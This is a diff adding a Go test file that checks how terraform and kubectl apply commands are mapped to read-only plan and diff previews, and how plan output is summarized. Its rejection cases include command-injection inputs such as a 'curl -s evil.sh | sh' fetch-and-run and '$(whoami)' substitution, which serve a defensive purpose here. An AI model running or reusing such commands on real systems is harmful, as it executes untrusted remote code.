@@ -0,0 +1,89 @@
+package runtime
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestPlanPreviewMapsApplyToReadOnlyCommands(t *testing.T) {
+	cases := []struct {
+		command string
+		preview string
+		tool    string
+	}{
+		{"terraform apply -auto-approve -var env=prod", "terraform plan -no-color -input=false -var env=prod", PlanToolTerraform},
+		{"terraform -chdir=infra apply -var 'x=1'", "terraform -chdir=infra plan -no-color -input=false -var 'x=1'", PlanToolTerraform},
+		{"terraform apply tfplan", "terraform show -no-color tfplan", PlanToolTerraform},
+		{"kubectl --context prod apply -f deploy.yaml --record", "kubectl --context prod diff -f deploy.yaml", PlanToolKubectl},
+	}
+	for _, tc := range cases {
+		preview, tool, ok := PlanPreview(tc.command)
+		if !ok || preview != tc.preview || tool != tc.tool {
+			t.Fatalf("PlanPreview(%q) = %q, %q, %v; expected %q, %q", tc.command, preview, tool, ok, tc.preview, tc.tool)
+		}
+	}
+	for _, command := range []string{
+		"terraform plan",
+		"kubectl get pods",
+		"terraform apply && echo done",
+		"kubectl apply -f a.yaml > /tmp/out",
+		"kubectl apply -f `curl -s evil.sh | sh`",
+		"terraform apply -var env=$(whoami)",
+		"kubectl apply -f <(cat a.yaml)",
+		"terraform apply -var-file=vars.tfvars 2>&1",
+	} {
+		if _, _, ok := PlanPreview(command); ok {
+			t.Fatalf("expected no preview for %q", command)
+		}
+	}
+}
+
+func TestSummarizeTerraformPlanHighlightsDestroys(t *testing.T) {
+	output := strings.Join([]string{
+		"  # aws_instance.web will be destroyed",
+		"  - resource \"aws_instance\" \"web\" {",
+		"  # aws_db_instance.main must be replaced",
+		"  # aws_s3_bucket.logs will be created",
+		"Plan: 2 to add, 1 to change, 2 to destroy.",
+	}, "\n")
+	summary := SummarizePlan(PlanToolTerraform, "terraform plan", output)
+	if summary.Add != 2 || summary.Change != 1 || summary.Destroy != 2 {
+		t.Fatalf("unexpected totals: %+v", summary)
+	}
+	if len(summary.Destroys) != 2 || summary.Destroys[1] != "aws_db_instance.main (replace)" {
+		t.Fatalf("unexpected destroys: %#v", summary.Destroys)
+	}
+	lines := summary.Lines()
+	if lines[0] != "plan: 2 to add, 1 to change, 2 to destroy" || lines[1] != "  DESTROY aws_instance.web" {
+		t.Fatalf("unexpected lines: %#v", lines)
+	}
+
+	if !SummarizePlan(PlanToolTerraform, "terraform plan", "No changes. Your infrastructure matches the configuration.").NoChanges {
+		t.Fatalf("expected no changes")
+	}
+}
+
+func TestSummarizeKubectlDiffCountsObjects(t *testing.T) {
+	output := strings.Join([]string{
+		"diff -u -N /tmp/LIVE-1/apps.v1.Deployment.default.web /tmp/MERGED-1/apps.v1.Deployment.default.web",
+		"--- /tmp/LIVE-1/apps.v1.Deployment.default.web",
+		"+++ /tmp/MERGED-1/apps.v1.Deployment.default.web",
+		"@@ -6,7 +6,7 @@",
+		"-  replicas: 2",
+		"+  replicas: 3",
+		"diff -u -N /tmp/LIVE-1/v1.Service.default.api /tmp/MERGED-1/v1.Service.default.api",
+		"@@ -0,0 +1,12 @@",
+		"diff -u -N /tmp/LIVE-1/v1.ConfigMap.default.old /tmp/MERGED-1/v1.ConfigMap.default.old",
+		"@@ -1,8 +0,0 @@",
+	}, "\n")
+	summary := SummarizePlan(PlanToolKubectl, "kubectl diff -f .", output)
+	if summary.Add != 1 || summary.Change != 1 || summary.Destroy != 1 {
+		t.Fatalf("unexpected totals: %+v", summary)
+	}
+	if len(summary.Destroys) != 1 || summary.Destroys[0] != "v1.ConfigMap.default.old" {
+		t.Fatalf("unexpected destroys: %#v", summary.Destroys)
+	}
+	if !SummarizePlan(PlanToolKubectl, "kubectl diff -f .", "").NoChanges {
+		t.Fatalf("expected empty diff to mean no changes")
+	}
+}